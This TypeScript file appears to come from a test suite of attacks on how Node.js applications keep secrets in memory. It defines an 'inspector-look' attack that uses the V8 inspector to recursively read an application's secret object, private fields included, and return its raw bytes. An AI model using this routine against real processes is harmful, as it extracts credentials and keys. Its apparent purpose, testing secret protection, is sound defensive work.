import type { Attack } from '../attack'
import { attackByInspector, type InspectorClient, type RemoteObject } from '../inspector'

const DEPTH = 4

interface Property {
  name: string
  value?: RemoteObject
}

interface Properties {
  result?: Property[]
  internalProperties?: Property[]
  privateProperties?: Property[]
}

/** Adds the bytes of each object whose properties are numbers, as an array's are. */
async function look(client: InspectorClient, object: RemoteObject, depth: number, bytes: string[]): Promise<void> {
  if (depth === 0 || object.objectId === undefined) return
  const asked = { objectId: object.objectId, ownProperties: true, generatePreview: true }
  const { result = [], ...others } = await client.post<Properties>('Runtime.getProperties', asked)
  const elements = result.filter(({ name }) => /^\d+$/.test(name)).map(({ value }) => Number(value?.value))
  if (elements.length > 0) bytes.push(Buffer.from(elements).toString('latin1'))
  const { internalProperties = [], privateProperties = [] } = others
  for (const { value } of [...result, ...internalProperties, ...privateProperties]) {
    if (value !== undefined) await look(client, value, depth - 1, bytes)
  }
}

export const attack: Attack = {
  name: 'inspector-look',
  title: 'inspector: looks at all properties, private ones too',
  from: 'outside',
  effect: 'read',
  leaks: 'the secret is in what the inspector answered',
  control: 'malloc',
  make: (target) =>
    attackByInspector(target, async (client) => {
      const bytes: string[] = []
      await look(client, await client.evaluate('application.secret'), DEPTH, bytes)
      return bytes.join('\n')
    }),
}
